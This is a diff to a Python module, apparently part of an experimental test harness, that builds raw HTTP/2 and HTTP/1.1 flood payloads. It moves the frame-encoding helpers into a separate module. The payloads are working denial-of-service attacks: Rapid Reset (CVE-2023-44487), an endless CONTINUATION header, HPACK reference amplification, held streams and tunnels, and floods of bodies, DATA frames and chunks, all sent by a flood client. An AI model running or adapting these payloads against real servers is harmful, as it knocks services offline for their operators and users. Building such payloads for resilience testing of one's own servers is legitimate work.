@@ -21,12 +21,13 @@ from collections import Counter, deque
 from collections.abc import Callable
 from pathlib import Path
 
-BEGINNING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0"
+from experiments.generator.http2 import CANCEL, PREFACE, frame, literal, settings
+
+BEGINNING = PREFACE + settings({})
 HEAD = b"\x82\x86\x84\x41\x01x"
 """GET / with the authority x (RFC 7541)."""
 
 FIELDS = b"\x40\x01a\x01b" * 4
-CANCEL = b"\0\0\0\x08"
 PIECE = 65_536
 UNREAD = 16 << 20
 """Bytes of resets for a connection: more than the kernel takes unread (`tcp_wmem`, `tcp_rmem`), so that no client
@@ -41,24 +42,13 @@ HELD = b"/held"
 STREAMS = 100
 
 
-def frame(kind: int, payload: bytes, stream: int, flags: int = 0) -> bytes:
-    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
-
-
-CONTINUED = frame(9, FIELDS, 1)
+CONTINUED = frame(9, 0, 1, FIELDS)
 PIECES = 50_000
-
-
-def text(data: bytes) -> bytes:
-    """A string without Huffman code (RFC 7541 § 5.2)."""
-    size = len(data)
-    number = bytes((size,)) if size < 127 else bytes((127, (size - 127) % 128 | 128, (size - 127) // 128))
-    return number + data
 
 
 def head(path: bytes, *others: bytes, method: bytes = b"\x82") -> bytes:
     """Fields of a request, none of which is kept in the table."""
-    return b"".join((method, b"\x86\x01\x01x\x04", text(path), *others))
+    return b"".join((method, b"\x86\x01\x01x\x04", literal(path), *others))
 
 
 def over_http2(*frames: bytes) -> bytes:
@@ -67,20 +57,20 @@ def over_http2(*frames: bytes) -> bytes:
 
 def resets() -> bytes:
     """Rapid Reset (CVE-2023-44487): requests that are reset at once."""
-    pair = len(frame(1, HEAD, 1) + frame(3, CANCEL, 1))
+    pair = len(frame(1, 0, 1, HEAD) + frame(3, 0, 1, CANCEL))
     ids = range(1, 2 * UNREAD // pair, 2)
-    return over_http2(*(frame(1, HEAD, one, 5) + frame(3, CANCEL, one) for one in ids))
+    return over_http2(*(frame(1, 5, one, HEAD) + frame(3, 0, one, CANCEL) for one in ids))
 
 
 def continuation() -> bytes:
     """A head without end (VU#421644)."""
-    return over_http2(frame(1, HEAD, 1, 1), CONTINUED * PIECES)
+    return over_http2(frame(1, 1, 1, HEAD), CONTINUED * PIECES)
 
 
 def requests(first: bytes, others: bytes, number: int = STREAMS, flags: int = 5) -> bytes:
     """Requests with these fields; others than the `first` may refer to what it has put into the table."""
     heads = (others if one else first for one in range(number))
-    return over_http2(*(frame(1, made, 1 + 2 * one, flags) for one, made in enumerate(heads)))
+    return over_http2(*(frame(1, flags, 1 + 2 * one, made) for one, made in enumerate(heads)))
 
 
 def alike(path: bytes, extra: bytes = b"", method: bytes = b"\x82", flags: int = 5) -> bytes:
@@ -90,24 +80,24 @@ def alike(path: bytes, extra: bytes = b"", method: bytes = b"\x82", flags: int =
 
 def referring(path: bytes, size: int, times: int, number: int = STREAMS) -> bytes:
     """Requests whose head is a cookie of `size` bytes, many `times`: a reference takes a byte (RFC 7541 § 6.1)."""
-    cookie = b"\x40" + text(b"cookie") + text(b"c" * size)
+    cookie = b"\x40" + literal(b"cookie") + literal(b"c" * size)
     return requests(head(path, cookie), head(path, b"\xbe" * times), number)
 
 
-TUNNEL = b"\x00" + text(b":protocol") + text(b"websocket")
+TUNNEL = b"\x00" + literal(b":protocol") + literal(b"websocket")
 CHUNKED = b"POST /held HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
-BODIES = b"".join(frame(0, bytes(PIECE // 4), 1 + 2 * one) for one in range(STREAMS)) * 3
+BODIES = b"".join(frame(0, 0, 1 + 2 * one, bytes(PIECE // 4)) for one in range(STREAMS)) * 3
 
 FLOODS: dict[str, Callable[[], bytes]] = {
     "resets": resets,
     "continuation": continuation,
     "streams": lambda: alike(HELD),
-    "tunnels": lambda: alike(HELD, TUNNEL, b"\x02" + text(b"CONNECT"), 4),
+    "tunnels": lambda: alike(HELD, TUNNEL, b"\x02" + literal(b"CONNECT"), 4),
     "waiting": lambda: alike(HELD + b"/"),
     "heads": lambda: referring(HELD + b"/", 256, 118),
     "bodies": lambda: alike(HELD + b"/", b"", b"\x83", 4) + BODIES,
     "decoding": lambda: referring(b"/", 3900, 8, PIECES),
-    "frames": lambda: over_http2(frame(1, head(HELD, method=b"\x83"), 1, 4), frame(0, b"b", 1) * PIECES),
+    "frames": lambda: over_http2(frame(1, 4, 1, head(HELD, method=b"\x83")), frame(0, 0, 1, b"b") * PIECES),
     "chunks": lambda: CHUNKED + b"1\r\nb\r\n" * PIECES,
 }
 """What each kind sends."""
@@ -150,7 +140,6 @@ class FloodClient:
 
     @property
     def wants(self) -> int:
-        """Events that it waits for."""
         return select.EPOLLIN | (select.EPOLLOUT if self._sent < len(self._data) else 0)
 
 
